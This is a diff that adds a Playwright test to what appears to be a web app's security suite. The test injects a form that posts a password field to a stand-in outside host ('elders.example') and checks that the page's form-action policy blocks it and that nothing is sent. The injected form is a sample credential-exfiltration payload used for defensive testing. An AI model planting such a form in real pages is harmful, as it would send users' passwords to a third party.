@@ -75,6 +75,29 @@ async def test_what_is_smuggled_into_the_page_as_it_is_served_does_not_run(liste
     assert any(found.startswith(directive) for found in await page.evaluate("window.violations"))
 
 
+async def test_a_form_smuggled_into_the_page_sends_nothing_to_another_host(listening):
+    """What somebody fills in would leave the site without any script."""
+    page = await listening.new_page()
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    await page.goto("/toolbox")
+    await page.wait_for_selector("h1")
+    await page.evaluate(
+        """() => {
+          const form = document.createElement('form');
+          form.action = 'https://elders.example/';
+          form.innerHTML = "<input name='password' value='geheim'><button>Verder</button>";
+          document.querySelector('main').prepend(form);
+        }"""
+    )
+    # Not by Playwright's own click, which would wait for the page that never comes.
+    await page.evaluate("document.querySelector('main > form > button').click()")
+    await page.wait_for_function("window.violations.length > 0")
+    assert [found.split()[0] for found in await page.evaluate("window.violations")] == ["form-action"]
+    assert page.url.endswith("/toolbox")
+    assert not [url for url in asked if "elders.example" in url]
+
+
 async def test_what_a_script_of_ours_would_write_into_the_page_does_not_run(listening):
     """As a careless `innerHTML` would, and code made of text."""
     page = await listening.new_page()
